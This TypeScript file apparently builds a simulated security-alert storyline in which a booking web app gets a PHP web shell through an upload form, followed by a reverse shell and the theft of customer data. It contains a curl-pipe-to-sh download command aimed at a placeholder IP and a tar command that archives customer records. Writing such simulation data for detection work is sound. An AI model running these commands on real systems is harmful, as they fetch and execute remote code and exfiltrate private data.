import { appService } from '../alertTypes/appService.ts';
import { production } from '../directory.ts';
import { url } from '../wire/entities.ts';
import { controlServerAt, scannerAt, thiefAt } from './cast.ts';
import { evidenceList, evidenceTable } from './evidence.ts';
import { webApp } from './resources.ts';
import { story } from './story.ts';

const controlServer = controlServerAt(27);
const scanner = scannerAt(142);
const thief = thiefAt(206);

const booking = webApp(production, 'booking', 'app-booking');
const back = 'https://app-booking.example/media/2024/logo.php';
const shellLine = 'sh -c "curl -s http://198.51.100.23/i | sh"';

/** A forgotten upload form becomes a back door, and the customer list leaves. */
export const webShellOnBooking = story('web-shell-on-booking', [
  {
    key: 'scan',
    kind: appService.scanner,
    at: '3d 09:14',
    lasts: 22,
    on: booking,
    facts: { ip: '203.0.113.142', count: '870' },
    details: { 'sample Source IP Addresses': '203.0.113.142', 'sample URIs': '/wp-content/plugins/, /xmlrpc.php' },
    entities: [scanner],
    status: 'Dismissed',
  },
  {
    key: 'admin-page',
    kind: appService.unusualVisitor,
    at: '2d 13:47',
    lasts: 9,
    on: booking,
    facts: { page: '/manage/upload', ip: '203.0.113.142' },
    details: { 'sample Source IP Addresses': '203.0.113.142', 'sample URIs': '/manage/upload' },
    entities: [scanner],
  },
  {
    key: 'script',
    kind: appService.scriptInUploads,
    at: '2d 14:05',
    on: booking,
    facts: { page: '/media/2024/logo.php' },
    details: { 'sample URIs': '/media/2024/logo.php', 'sample User Agents': 'curl/8.5.0' },
    entities: [scanner, url(back)],
  },
  {
    key: 'command',
    kind: appService.suspectScript,
    at: '2d 14:22',
    on: booking,
    shouted: true,
    facts: { process: shellLine },
    details: { 'suspicious Command Line': shellLine, 'process Name': 'php-fpm' },
    entities: [url(back)],
    evidence: evidenceList(
      ['The command came from the file logo.php, which is not part of any deployment.'],
      [
        evidenceTable(
          'Commands started by logo.php',
          ['Time (UTC)', 'Command', 'Exit code'],
          [
            ['14:22:03', 'id', 0],
            ['14:22:31', 'uname -a', 0],
            ['14:23:10', shellLine, 0],
          ],
        ),
      ],
    ),
  },
  {
    key: 'shell',
    kind: appService.reverseShell,
    at: '2d 14:24',
    lasts: 310,
    on: booking,
    facts: { ip: '198.51.100.27' },
    details: { 'process Name': 'sh', 'destination Port': '8443' },
    entities: [controlServer],
  },
  {
    key: 'egress',
    kind: appService.dataLeaves,
    at: '2d 18:40',
    lasts: 6,
    on: booking,
    facts: { size: '412 MB', ip: '198.51.100.206' },
    details: { 'suspicious Command Line': 'tar czf - /home/data/customers', 'size of extracted data': '412 MB' },
    entities: [thief],
  },
]);
